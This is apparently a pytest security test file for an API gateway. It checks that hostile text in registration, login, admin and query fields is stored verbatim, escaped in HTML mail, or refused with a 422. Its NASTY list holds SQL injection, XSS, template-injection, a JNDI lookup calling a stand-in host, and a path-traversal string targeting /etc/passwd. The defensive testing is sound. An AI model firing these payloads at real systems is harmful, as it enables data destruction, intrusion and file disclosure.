"""Hostile input in every text field: stored verbatim or refused with a 422, never run as
SQL, never rendered as markup, never a 500."""

from __future__ import annotations

from tests.gateway.conftest import Gateway, token_in
from tests.gateway.test_journey import PROGRAM

NASTY = [
    "'; DROP TABLE users; --",
    "\" OR 1=1 --",
    "<script>alert('x')</script>",
    "{{7*7}} ${7*7} {% raw %}",
    "${jndi:ldap://evil.test/a}",
    "../../../../etc/passwd",
    "Robert'); DELETE FROM tenants;--",
]


def test_hostile_names_are_stored_verbatim_and_escaped_in_mail(gateway: Gateway) -> None:
    for n, text in enumerate(NASTY):
        address = f"n{n}@hostile.test"
        answer = gateway.post("/api/v1/auth/register", {
            "email": address, "password": "correct horse battery", "display_name": text},
            headers={"X-Forwarded-For": f"10.1.0.{n}"})  # past the per-address limit
        assert answer.status_code == 201, (text, answer.text)
        assert answer.json()["display_name"] == text
        message = gateway.sink.wait_for(address)[0]
        html = message.get_body(("html",)).get_content()
        assert "<script>" not in html
        if "<" in text:
            assert "&lt;script&gt;" in html
        # Shown as written, not evaluated ({{7*7}} stays {{7*7}}).
        assert f"Hello {text}," in message.get_body(("plain",)).get_content()
        token_in(message)
    assert gateway.sql("SELECT count(*) FROM users")[0][0] == len(NASTY)
    assert gateway.sql("SELECT count(*) FROM tenants")[0][0] == 1


def test_hostile_text_in_constrained_fields_is_refused(gateway: Gateway) -> None:
    gateway.verified_user("admin@hostile.test")
    gateway.promote("admin@hostile.test", "admin")
    admin = gateway.login("admin@hostile.test")["access_token"]
    for text in NASTY:
        for field in ("email",):
            answer = gateway.post("/api/v1/auth/login", {field: text, "password": "x" * 10})
            assert answer.status_code == 422, (field, text)
        for field in ("slug", "currency", "price"):
            answer = gateway.post("/api/v1/admin/programs", {**PROGRAM, field: text}, admin)
            assert answer.status_code == 422, (field, text, answer.text)
            assert answer.json()["error"]["fields"][0]["path"] == f"$.{field}"
        # The program's name is free text: stored as given, shown back as data.
        named = gateway.post("/api/v1/admin/programs",
                             {**PROGRAM, "slug": f"p{abs(hash(text)) % 10**6}",
                              "name": text[:100]}, admin)
        assert named.status_code == 201, named.text
        assert named.json()["name"] == text[:100]
        # Path parameters and queries.
        assert gateway.get(f"/api/v1/challenges/{text}", admin).status_code == 404
        assert gateway.get("/api/v1/admin/users", admin,
                           params={"q": text}).status_code == 200
        # A filter value that matches nothing is named, never an empty success.
        state = gateway.get("/api/v1/risk/events", admin, params={"state": text})
        assert state.status_code == 422 and state.json()["error"]["fields"][0]["path"] == \
            "state"
        assert gateway.get("/api/v1/risk/events", admin,
                           params={"account": text}).status_code == 404
    nul = gateway.post("/api/v1/auth/register", {"email": "z@z.test",
                                                 "password": "correct horse battery",
                                                 "display_name": "a\u0000b"})
    assert nul.status_code == 422
    assert gateway.sql("SELECT count(*) FROM programs")[0][0] == len(NASTY)
